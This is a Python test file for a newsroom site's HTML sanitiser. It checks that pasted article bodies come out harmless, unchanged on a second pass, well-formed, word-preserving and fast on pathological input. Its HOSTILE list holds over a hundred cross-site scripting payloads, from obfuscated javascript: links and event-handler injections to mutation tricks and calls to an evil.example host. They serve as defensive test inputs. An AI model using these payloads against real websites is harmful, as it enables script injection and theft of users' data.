"""Whatever goes in, what comes out of `clean` is harmless, keeps the words, and is finished."""

import html
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import Settings

from newsroom.html import ATTRIBUTES, DROPPED_WHOLE, SCHEMES, TAGS, clean, for_xml, plain, tidy, with_rel

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//<p>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href=' //evil.example/'>x</a>",
    "<a href='\t//evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='/\n/evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example/'>x</a>",
    "<a href='\\/evil.example/'>x</a>",
    "<a href='\x00//evil.example/'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='\ufeffjavascript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https:/evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https://example.org' onclick=alert(1)>x</a>",
    "<a href='https://example.org' style='position:fixed;inset:0'>x</a>",
    "<a href='https://example.org' target=_blank ping='https://evil.example/'>x</a>",
    "<a href='https://example.org' id=getElementById name=body>x</a>",
    '<a href="https://example.org/"onmouseover="alert(1)">x</a>',
    "<a title='\"><img src=x onerror=alert(1)>' href='/x/'>x</a>",
    "<a href='/x/\"><img src=x onerror=alert(1)>'>x</a>",
    "<p style='background:url(https://evil.example/t.gif)'>x</p>",
    "<p class=modal id=x data-x=1 aria-label=x contenteditable>x</p>",
    "<p onpointerenter=alert(1)>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<div style=width:expression(alert(1))>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)",
    "<p><a href='x' <img src=x onerror=alert(1)>",
    "\x00<\x00img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<h1 onclick=alert(1)>x</h1>",
    "<b/onclick=alert(1)>x</b>",
    "<i\nonclick=alert(1)>x</i>",
    "<b\x0conclick=alert(1)>x</b>",
    "<\u200bscript>alert(1)</\u200bscript>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<im&nbsp;g src=x onerror=alert(1)>",
    "&#x200b;<im&#x200b;g src=x onerror=alert(1)>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "<em></em><img src=x onerror=alert(1)>",
    "<p><em></em></p><<p></p>script>alert(1)<<p></p>/script>",
    "&lt;<p></p>img src=x onerror=alert(1)&gt;",
]

ATOMS = [
    *(f"<{tag}>" for tag in sorted(TAGS | DROPPED_WHOLE | {"h1", "b", "i", "table", "td", "mglyph", "x-y"})),
    *(f"</{tag}>" for tag in sorted(TAGS | DROPPED_WHOLE | {"h1", "b", "i", "table"})),
    *("<a href='", "' title='", '"', "'", ">", "<", "/", "=", " ", "\n", "\t", "\0", "&", ";", "<!--", "-->", "--!>"),
    *(
        "javascript:",
        "data:",
        "//",
        "/\\",
        "https://example.org/",
        "mailto:",
        "onerror=alert(1)",
        " style=x",
        "<![CDATA[",
    ),
    *(
        "&nbsp;",
        "&lt;",
        "&gt;",
        "&amp;",
        "&#60;",
        "&quot;",
        "\u00a0",
        "\u200b",
        "\u00ad",
        "\ufeff",
        "]]>",
        "<?",
        "words",
    ),
    *("The story", "Éva", "李", "🎬"),
]
tangled = st.lists(st.sampled_from(ATOMS) | st.text(max_size=5), max_size=30).map("".join)


class Reader(HTMLParser):
    """What a browser would find: every element and attribute."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def assert_harmless(text: str) -> None:
    reader = Reader(text)
    assert not reader.odd
    for tag, attributes in reader.found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if (address := attributes.get("href")) is not None:
            seen_by_browser = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).replace("\\", "/")
            assert not seen_by_browser.startswith("//")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen_by_browser, re.I)
            assert scheme is None or scheme[1].lower() in SCHEMES
            if scheme and scheme[1].lower().startswith("http"):
                assert urlsplit(seen_by_browser).netloc


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_in_a_body_can_run_track_or_restyle(payload: str) -> None:
    for text in (payload, f"<p>{payload}</p>", f"<ul><li>{payload}</ul>", f"<blockquote>{payload}", payload * 3):
        assert_harmless(clean(text))
        assert clean(clean(text)) == clean(text)


@given(tangled)
def test_whatever_is_pasted_comes_out_harmless(text: str) -> None:
    assert_harmless(clean(text))


@given(tangled)
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    once = clean(text)
    assert clean(once) == once


INSIDE = {"ul": {"li"}, "ol": {"li"}, "blockquote": {"p", "h3", "h4", "ul", "ol", "blockquote", "hr"}}
INLINE_IN = {"p", "h3", "h4", "strong", "em", "s", "sup", "sub", "cite", "q", "a"}


class Outline(HTMLParser):
    """Fails where an element stands in one that may not hold it, or is empty."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.words = [False]
        self.feed(text)
        assert not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        parent = self.open[-1] if self.open else "blockquote"
        if parent in INSIDE:
            assert tag in INSIDE[parent], f"{tag} in {parent}"
        elif parent in INLINE_IN:
            assert tag in INLINE_IN - {"p", "h3", "h4"} | {"br"}, f"{tag} in {parent}"
        assert tag not in self.open or tag in {"ul", "ol", "li", "blockquote"}, f"{tag} in itself"
        if tag not in {"br", "hr"}:
            self.open.append(tag)
            self.words.append(False)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag
        words = self.words.pop()
        assert words, f"empty {tag}"
        self.words[-1] = True

    def handle_data(self, data: str) -> None:
        assert self.open, "text outside every paragraph"
        assert self.open[-1] not in INSIDE, f"text in {self.open[-1]}"
        self.words[-1] = self.words[-1] or bool(data.strip())


@given(tangled)
def test_what_comes_out_is_valid_and_nothing_in_it_is_empty(text: str) -> None:
    Outline(clean(text))


words = st.text(
    st.characters(exclude_categories=("C", "Z"), exclude_characters="\u200b\u2060\ufeff\u00ad"), min_size=1, max_size=12
)
inline = st.recursive(
    words.map(html.escape),
    lambda inner: st.one_of(
        st.builds(
            "<{0}>{1}</{0}>".format, st.sampled_from(["strong", "em", "b", "i", "s", "sup", "sub", "span"]), inner
        ),
        st.builds(
            '<a href="https://example.org/{1}">{0}</a>'.format, inner, st.sampled_from(["", "a", "a?b=1&amp;c=2"])
        ),
        st.builds("{} {}".format, inner, inner),
    ),
    max_leaves=6,
)
block = st.one_of(
    st.builds("<{0}>{1}</{0}>".format, st.sampled_from(["p", "h1", "h2", "h3", "h4", "h5", "div"]), inline),
    st.lists(inline, min_size=1, max_size=3).map(
        lambda items: "<ul>" + "".join(f"<li>{i}</li>" for i in items) + "</ul>"
    ),
    st.builds("<blockquote><p>{}</p></blockquote>".format, inline),
)


def only_words(text: str) -> str:
    """The letters a reader sees; how they are spaced is not compared."""
    return re.sub(r"\s", "", html.unescape(re.sub(r"<[^>]*>", "", text)))


@given(st.lists(block, max_size=6).map("\n".join))
def test_no_word_of_a_harmless_body_is_lost(body: str) -> None:
    assert only_words(clean(body)) == only_words(body)


@given(words, words)
def test_words_on_either_side_of_a_no_break_space_stay_apart(one: str, other: str) -> None:
    text = f"<p>{html.escape(one)}&nbsp;&nbsp;{html.escape(other)}</p>"
    assert plain(clean(text)) == f"{one} {other}"


@pytest.mark.parametrize(
    "tangle",
    [
        "<b>" * 350_000,
        "<p>" * 350_000,
        "<em><p>" * 150_000,
        "<blockquote>" * 80_000,
        "<ul><li>" * 120_000,
        "<a href='x'>" * 80_000,
        "<" * 1_000_000,
        "&nbsp;" * 160_000,
        "&" * 1_000_000,
        "<p> <br> " * 110_000,
        "<p>" + " " * 990_000,
        "<p>" + "<br>" * 240_000,
        "<p>" + "<br>" * 240_000 + "x</p>",
        "<strong><em>" * 40_000 + "</em></strong>" * 40_000,
        "<h1" * 330_000,
        "</h1 " * 200_000,
        "<table><b>" * 100_000,
        "<!--" * 250_000,
        "<svg><math>" * 90_000,
        "<p title='" + "x" * 990_000,
        "\u200b" * 330_000,
        "<a href='" + "/" * 990_000 + "'>x</a>",
    ],
    ids=lambda tangle: tangle[:16],
)
def test_a_megabyte_of_tangle_takes_less_than_three_seconds(tangle: str) -> None:
    start = time.process_time()
    cleaned = clean(tangle)
    plain(cleaned)
    with_rel(cleaned)
    assert time.process_time() - start < 3


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<h1>Part</h1><h2>Part</h2>", "<h3>Part</h3><h3>Part</h3>"),
        ("<b>said</b> <i>Film</i> <strike>old</strike>", "<p><strong>said</strong> <em>Film</em> <s>old</s></p>"),
        ('<p class="MsoNormal" style="color:red">It<o:p></o:p> is</p>', "<p>It is</p>"),
        ("<p>One</p><p>&nbsp;</p><p><br></p><p><strong> </strong></p><p>Two</p>", "<p>One</p><p>Two</p>"),
        ('<b style="font-weight:normal"><p>One</p></b>', "<p>One</p>"),
        ("<!--[if gte mso 9]><xml>junk</xml><![endif]--><p>One</p>", "<p>One</p>"),
        ("<p>Two\u00a0\u00a0words, no\u200bthing be\u00adtween</p>", "<p>Two words, nothing between</p>"),
        ('<a href="https://example.org/?a=1&b=2">A</a>', '<p><a href="https://example.org/?a=1&amp;b=2">A</a></p>'),
        ('<p><a href="/film/12/story/">ours</a></p>', '<p><a href="/film/12/story/">ours</a></p>'),
        ('<p><a href="#part">below</a></p>', '<p><a href="#part">below</a></p>'),
        ('<p><a name="x">an anchor</a></p>', "<p>an anchor</p>"),
        ("<p>5 < 6 & 7 > 6</p>", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>"),
        ("<table><tr><td>One</td><td>Two</td></tr></table>", "<p>One Two</p>"),
        ("<div>One</div><div>Two</div>", "<p>One</p><p>Two</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_a_pasted_body_is_tidied(pasted: str, kept: str) -> None:
    assert clean(pasted) == kept


def test_links_that_leave_the_site_say_so(settings: Settings) -> None:
    settings.SITE_URL = "https://news.example"
    body = '<a href="https://other.example/x">away</a> <a href="https://news.example/x">home</a> <a href="/x">home</a>'
    marked = with_rel(clean(body))
    assert marked.count("rel=") == 1
    assert '<a href="https://other.example/x" rel="noopener nofollow external">' in marked


def test_a_title_attribute_does_not_hide_a_link_from_its_rel(settings: Settings) -> None:
    settings.SITE_URL = "https://news.example"
    assert with_rel(clean('<a title="x" href="https://other.example/">away</a>')).count("rel=") == 1


@given(st.text())
def test_a_tidied_line_is_one_line(text: str) -> None:
    line = tidy(text)
    assert tidy(line) == line
    assert len(line.splitlines()) <= 1
    assert "\0" not in line


@given(st.text(st.characters(exclude_categories=()), max_size=60))
def test_what_html_and_xml_cannot_write_is_neither_in_a_tidied_line_nor_in_cleaned_text(text: str) -> None:
    """Half a surrogate pair, which JSON can carry, would not even be stored."""
    for kept in (tidy(text), clean(text), plain(clean(text))):
        kept.encode()
        assert for_xml(kept) == kept


@pytest.mark.parametrize(
    "address",
    ["https://[@example.com/", "https://a]b@example.com/", "https://a[b:c]@example.com/", "https://user℀@example.com/"],
)
def test_an_address_that_python_cannot_read_is_no_link_and_breaks_no_page(address: str) -> None:
    text = f'<p>See <a href="{address}">this</a></p>'

    assert clean(text) == "<p>See this</p>"
    assert 'rel="noopener nofollow external"' in with_rel(text)  # published before it was refused
